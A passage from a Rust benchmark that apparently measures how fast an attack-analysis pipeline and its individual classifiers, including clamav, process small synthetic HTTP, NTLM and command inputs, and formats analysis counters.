        "{:<9} {:>6} {:>8.1} {:>10.0} {:>11.0} {:>12.0} {:>9.1} {:>9.1} {:>10.1} {:>9}",
        r.class,
        r.inputs,
        r.bytes as f64 / 1e6,
        r.hash,
        r.analyze,
        r.both,
        per(r.y.virtuals),
        per(r.y.findings),
        per(r.y.downloads),
        r.y.failures
    );
}

/// Per-attack cost of small payloads (what a scanner sends): attacks/s of one
/// thread for a request with a Negotiate blob, as connbench's analysis scenario
/// sends it.
fn small_inputs(ctx: &Ctx, args: &Args, fixtures: Option<&classifiers::Fixtures>) -> Result<()> {
    let mut r = Rng(args.seed);
    let mut samples: Vec<(&str, Vec<u8>)> = vec![
        ("GET / (18 B)", b"GET / HTTP/1.0\r\n\r\n".to_vec()),
        ("http ~300 B", gen_http(&mut r, 300)),
        ("ntlm ~600 B", gen_ntlm(&mut r, 600)),
        ("commands ~300 B", gen_commands(&mut r, 300)),
    ];
    if fixtures.is_some() {
        samples.push(("connbench classif.", classifiers::bench_request()));
    }
    println!();
    println!(
        "{:<18} {:>8} {:>12} {:>12}",
        "small input", "bytes", "attacks/s", "us/attack"
    );
    for (name, p) in samples {
        let a = attack(&p);
        let t0 = Instant::now();
        let mut n = 0u64;
        while t0.elapsed() < Duration::from_secs_f64(args.seconds) {
            for _ in 0..100 {
                ctx.analyze(&mut a.clone(), None);
            }
            n += 100;
        }
        let per = t0.elapsed().as_secs_f64() / n as f64;
        println!(
            "{:<18} {:>8} {:>12.0} {:>12.1}",
            name,
            p.len(),
            1.0 / per,
            per * 1e6
        );
    }
    if let Some(fixtures) = fixtures {
        let req = classifiers::bench_request();
        let a = attack(&req);
        println!();
        println!(
            "# each classifier alone on connbench's classifiers request ({} B; its ELF is {} B)",
            req.len(),
            classifiers::bench_elf().len()
        );
        println!(
            "{:<18} {:>12} {:>9} {:>16}",
            "classifier", "us/attack", "findings", "clamd CPU us/attack"
        );
        for name in CLASSIFIERS {
            let Some(c) = ctx.set.analyze.iter().find(|x| x.name() == *name) else {
                println!("{:<18} {:>12} {:>9}", name, "n/a", "n/a");
                continue;
            };
            let found = run_alone(c.as_ref(), &a, &req).findings.len();
            let clamd = fixtures.clamd.as_ref().filter(|_| *name == "clamav");
            let cpu0 = clamd.and_then(|c| c.cpu());
            let t0 = Instant::now();
            let mut n = 0u64;
            while t0.elapsed() < Duration::from_secs_f64(args.seconds) {
                for _ in 0..20 {
                    std::hint::black_box(run_alone(c.as_ref(), &a, &req));
                }
                n += 20;
            }
            let per = t0.elapsed().as_secs_f64() / n as f64;
            let clamd_cpu = match (cpu0, clamd.and_then(|c| c.cpu())) {
                (Some(a), Some(b)) => format!("{:.1}", (b - a).as_secs_f64() * 1e6 / n as f64),
                _ => "-".into(),
            };
            println!(
                "{:<18} {:>12.1} {:>9} {:>16}",
                name,
                per * 1e6,
                found,
                clamd_cpu
            );
        }
        breakdown(
            ctx,
            &vec![req; 2000],
            "connbench's classifiers request, 2000 times",
        )?;
    }
    Ok(())
}

fn counters(s: &Stats) -> String {
    s.snapshot()
        .into_iter()
        .filter(|(k, _)| {
            k.starts_with("analy")
                || *k == "virtual_attacks"
                || *k == "findings"
                || *k == "downloads"
        })
        .map(|(k, v)| format!("{k}={v}"))
        .collect::<Vec<_>>()
        .join(" ")
}
